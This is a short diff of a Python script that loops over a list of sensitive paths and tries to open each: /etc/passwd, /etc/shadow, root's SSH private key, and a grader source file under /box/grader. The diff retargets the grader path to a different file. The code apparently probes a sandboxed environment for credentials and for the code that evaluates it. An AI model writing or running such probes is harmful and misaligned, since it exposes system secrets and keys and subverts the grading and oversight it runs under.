@@ -7,7 +7,7 @@ PATHS = [
     "/etc/passwd",
     "/etc/shadow",
     "/root/.ssh/id_rsa",
-    "/box/grader/wire.py",
+    "/box/grader/values/frames.py",
 ]
 for path in PATHS:
     try:
